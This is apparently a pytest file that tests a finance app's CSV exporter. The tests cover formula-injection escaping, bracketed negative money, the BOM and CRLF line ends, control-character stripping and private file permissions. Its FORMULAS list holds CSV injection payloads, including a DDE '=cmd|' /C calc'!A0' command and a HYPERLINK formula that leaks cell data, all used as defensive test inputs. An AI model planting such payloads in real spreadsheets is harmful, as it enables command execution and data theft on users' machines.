"""CSV written for spreadsheets: no cell can start a formula, money is a number a
spreadsheet adds up (below nothing in brackets, never with a minus sign in front), and the
file is UTF-8 with its byte order mark, CRLF line ends, private and whole."""

from __future__ import annotations

import csv
import io
import stat
from datetime import date
from pathlib import Path

import pytest

from journey.money import csvfile, statement
from journey.money.csvfile import FORMULA_STARTS, Money, cell, encode
from journey.store.private import write_whole

DATA = Path(__file__).parent / "data" / "statements"


def cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def runs(text: str) -> bool:
    """Whether a spreadsheet would take this cell as a formula."""
    return bool({text[:1], text.lstrip()[:1]} & FORMULA_STARTS)


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1",
            "  =1+1", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0", "-£5.00", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_could_start_a_formula_is_written_as_text(formula: str) -> None:
    rows = [[formula, "a", "b"], ["a", formula, "b"], ["a", "b", formula]]
    back = cells(encode(rows))
    for row in back:
        for text in row:
            assert not runs(text)
    assert back[0][0].startswith("'") and back[0][0][1:] == formula.replace("\r", "")


def test_ordinary_text_is_left_as_it_is() -> None:
    for text in ("Kim Lee", "3 hours", "O'Neill", "A, B and \"C\"", "two\nlines", "£5.00",
                 "e=mc2", "50-50", ""):
        assert cells(encode([[text]])) == [[text]]


def test_money_is_a_number_with_no_sign_in_front() -> None:
    assert [cell(Money(p)) for p in (123456, 5, 0, -500, -123456789)] == [
        "1234.56", "0.05", "0.00", "(5.00)", "(1234567.89)"]
    assert not any(runs(cell(Money(p))) for p in range(-1000, 1000, 7))
    with pytest.raises(TypeError):
        Money("5.00")  # type: ignore[arg-type]


def test_other_values() -> None:
    assert cell(None) == "" and cell(date(2026, 5, 1)) == "2026-05-01"
    assert cell(True) == "yes" and cell(12) == "12"
    assert cell(-5) == "'-5"  # a bare number below nothing is not money: escaped as text


def test_the_file_is_utf8_with_its_mark_and_crlf() -> None:
    data = encode([["Who", "Amount"], ["Zoë", Money(-500)], ["a\nb", Money(1)]])
    assert data.startswith(b"\xef\xbb\xbfWho,Amount\r\n")
    assert "Zoë,(5.00)\r\n".encode() in data
    assert data.endswith(b'"a\nb",0.01\r\n')  # a line break inside a cell stays inside it
    assert cells(data) == [["Who", "Amount"], ["Zoë", "(5.00)"], ["a\nb", "0.01"]]


def test_terminal_codes_and_bidirectional_controls_are_not_written() -> None:
    back = cells(encode([["Kim\x1b[31m\u202eLee\x07"]]))
    assert back == [["KimLee"]]


def test_a_hostile_statement_read_and_written_back_runs_nothing() -> None:
    def quoted(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    hostile = "".join(f"01/05/2026,{quoted(f)},-1.00,{quoted(f)}\n" for f in FORMULAS)
    st = statement.read_bytes(("Date,Description,Amount,Reference\n" + hostile).encode())
    assert len(st.rows) == len(FORMULAS)
    data = encode([["Date", "Payee", "Reference", "Amount"], *(
        [r.day, r.payee, r.reference, Money(-r.pence if r.direction == "out" else r.pence)]
        for r in st.rows)])
    for row in cells(data):
        assert not any(runs(text) for text in row), row


@pytest.mark.posix
def test_written_whole_and_private(tmp_path: Path) -> None:
    rows = statement.read_file(DATA / "lloyds.csv").rows
    data = encode([["Date", "Payee", "Amount"], *(
        [r.day, r.payee, Money(r.pence)] for r in rows)])
    path = tmp_path / "record.csv"
    write_whole(path, data)  # as the front doors write every export
    assert path.read_bytes() == data
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert csvfile.BOM == "\ufeff"
